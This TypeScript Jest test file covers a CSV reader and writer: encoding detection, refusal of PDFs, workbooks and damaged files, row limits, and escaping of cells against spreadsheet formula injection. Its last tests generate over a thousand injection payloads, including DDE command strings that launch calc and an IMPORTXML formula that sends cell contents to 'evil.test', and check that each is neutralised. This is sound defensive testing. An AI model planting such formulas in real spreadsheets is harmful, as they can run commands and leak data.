import { Readable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from '@jest/globals';
import { csvLine, readCsv, type CsvLimits } from '../../src/files/csv.js';
import { FileRefused } from '../../src/files/refused.js';
import { report } from '../support/fault-report.js';

const limits: CsvLimits = { rows: 100, columns: 10, field: 100 };

/** Hands the bytes out three at a time, so that every character is split somewhere. */
const open = (bytes: Buffer) => () =>
  Readable.from(
    (function* () {
      for (let from = 0; from < bytes.length; from += 3) yield bytes.subarray(from, from + 3);
    })(),
  );
async function rows(bytes: Buffer, given = limits) {
  const all: (readonly [number, ...string[]])[] = [];
  for await (const { line, cells } of readCsv(open(bytes), given)) all.push([line, ...cells]);
  return all;
}
const refusal = (bytes: Buffer, given = limits): Promise<string> =>
  rows(bytes, given).then(
    () => 'nothing',
    (error: unknown) => (error instanceof FileRefused ? error.message : `thrown: ${String(error)}`),
  );

const swapped = (text: string): Buffer => Buffer.from(text, 'utf16le').swap16();
const text = 'name,place\r\nZoë,“Œ” 20 €\r\n';
const expected = [
  [1, 'name', 'place'],
  [2, 'Zoë', '“Œ” 20 €'],
];

describe('encodings', () => {
  it.each([
    ['UTF-8', Buffer.from(text)],
    ['UTF-8 with a mark', Buffer.from(`\uFEFF${text}`)],
    ['UTF-16, little end first, with a mark', Buffer.from(`\uFEFF${text}`, 'utf16le')],
    ['UTF-16, big end first, with a mark', swapped(`\uFEFF${text}`)],
    ['UTF-16, little end first', Buffer.from(text, 'utf16le')],
    ['UTF-16, big end first', swapped(text)],
    [
      'Windows-1252',
      Buffer.concat([
        Buffer.from('name,place\r\nZo'),
        Buffer.from([0xeb, 0x2c, 0x93, 0x8c, 0x94]),
        Buffer.from(' 20 '),
        Buffer.from([0x80, 13, 10]),
      ]),
    ],
  ])('%s', async (_name, bytes) => {
    expect(await rows(bytes)).toEqual(expected);
  });

  it('finds the one accented letter at the far end of a long file', async () => {
    const long = 'a,b\r\n'.repeat(5_000);
    const wide = { ...limits, rows: 6_000 };
    const end = await rows(Buffer.concat([Buffer.from(`${long}Zo`), Buffer.from([0xeb]), Buffer.from(',x\r\n')]), wide);
    expect(end.at(-1)).toEqual([5_001, 'Zoë', 'x']);
  });

  it.each([
    [
      'two encodings in one file',
      Buffer.concat([Buffer.from('Zoë\r\nZo'), Buffer.from([0xeb])]),
      'This file mixes two ways of writing accented letters; the first odd one is on line 2. Save the sheet as "CSV UTF-8" and bring that file.',
    ],
    [
      'zeros',
      Buffer.from([97, 44, 98, 10, 97, 0, 98, 10]),
      'This file is not plain text. Save the sheet as "CSV UTF-8" and bring that file.',
    ],
    [
      'an Excel workbook',
      Buffer.from('504b030414000600', 'hex'),
      'This is an Excel workbook or a zip file, not a CSV file. Save the sheet as "CSV UTF-8" and bring that file.',
    ],
    [
      'a PDF',
      Buffer.from('%PDF-1.7'),
      'This is a PDF, not a CSV file. Save the sheet as "CSV UTF-8" and bring that file.',
    ],
    [
      'a gzip file',
      Buffer.from('1f8b0800', 'hex'),
      'This file is compressed. Unpack it and bring the CSV file inside.',
    ],
    [
      'half a UTF-16 unit',
      Buffer.from('fffe610062', 'hex'),
      'This file is damaged or is not text. Save the sheet as "CSV UTF-8" and bring that file.',
    ],
    ['nothing', Buffer.alloc(0), 'This file is empty.'],
  ])('refuses %s', async (_name, bytes, why) => {
    expect(await refusal(bytes)).toBe(why);
  });
});

describe('rows', () => {
  it('are separated by commas, semicolons or tabs, whichever the headings have', async () => {
    expect(await rows(Buffer.from('a;"b,c"\n1;2,5\n'))).toEqual([
      [1, 'a', 'b,c'],
      [2, '1', '2,5'],
    ]);
    expect(await rows(Buffer.from('a\tb,c\td\n1\t2\t3\n'))).toEqual([
      [1, 'a', 'b,c', 'd'],
      [2, '1', '2', '3'],
    ]);
  });

  it('know the line on which they begin, past empty ones and line breaks inside cells', async () => {
    expect(await rows(Buffer.from('a,b\n\n"x\ny",1\n,\nz,2\n'))).toEqual([
      [1, 'a', 'b'],
      [3, 'x\ny', '1'],
      [6, 'z', '2'],
    ]);
  });

  it('may be too many, too long, or never end', async () => {
    expect(await refusal(Buffer.from('a\n1\n2\n3\n'), { ...limits, rows: 2 })).toBe(
      'This file has more than 2 rows. Bring it in parts, or import it from the command line.',
    );
    expect(await rows(Buffer.from('a\n1\n2\n'), { ...limits, rows: 2 })).toHaveLength(3);
    expect(await refusal(Buffer.from(`a,b\n${'x'.repeat(1_100)},1\n`))).toBe(
      'The row at line 2 is longer than any row of this kind can be. The file is no CSV file, or a quotation mark is missing.',
    );
    expect(await refusal(Buffer.from('a,b\n"x,1\n'))).toBe(
      'A quotation mark is opened and never closed, so the end of the file cannot be read.',
    );
  });
});

it.each([
  ['=1+1', `"'=1+1"`],
  ['+1', `"'+1"`],
  ['-1', `"'-1"`],
  ['@SUM', `"'@SUM"`],
  ['\t=1', `"'\t=1"`],
  ['\rx', `"'\rx"`],
  ['\nx', `"'\nx"`],
  ['＝1', `"'＝1"`],
  ['＋1', `"'＋1"`],
  ['－1', `"'－1"`],
  ['＠x', `"'＠x"`],
  ['  =1', `"'  =1"`],
  ['"=1"', `"'""=1"""`],
  ['\uFEFF=1', `"'\uFEFF=1"`],
  ['a=b', '"a=b"'],
  ['say "hi", twice', '"say ""hi"", twice"'],
  [-12, '-12'],
])('writes %j so that no spreadsheet runs it', (value, cell) => {
  expect(csvLine([value, 'end'])).toBe(`${cell},"end"\r\n`);
});

it('no spreadsheet runs any of some thousand texts that are written, and each can be read back as it was (row 44)', () => {
  const before = ['', ' ', '"', "'", '\uFEFF', '\t', '\r', '\n', '\r\n', ' "', "\u00A0'", '""'];
  const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
  const after = [
    ...['1+1', 'cmd|" /C calc"!A0', 'HYPERLINK("http://evil.test","x")', 'SUM(A1:A9),"', 'x;y', 'x\ty', '"\r\n=2', ''],
    ...['IMPORTXML(CONCAT("http://evil.test/?",A1),"//a")', 'DDE("cmd";"/C calc";"x")', '2+5+cmd|x!A0', "'"],
  ];
  const texts = before.flatMap((start) => signs.flatMap((sign) => after.map((end) => `${start}${sign}${end}`)));
  expect(texts.length).toBeGreaterThan(1_000);
  const plain = ['Zoë', "O'Testperson", "'tis", 'a=b', '1-2', '3,4', 'one\r\ntwo', '‐dash'];
  // A spreadsheet, as it opens a file: it drops marks and blanks, then runs what begins with a sign.
  const isRun = (cell: string): boolean =>
    /^["\s\uFEFF]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u.test(cell) || /^[\t\r\n]/.test(cell);
  for (const text of [...texts, ...plain]) {
    const cells = parse(csvLine([text, 'end'])).flat();
    expect([text, cells.length, isRun(cells[0] ?? '')]).toEqual([text, 2, false]);
    const back = cells[0] !== text && cells[0]?.startsWith("'") === true ? cells[0].slice(1) : cells[0];
    expect(back).toBe(text);
  }
  report('44', '0 cells that a spreadsheet runs, data reversible', `${texts.length} payloads: 0 run, all read back`);
});
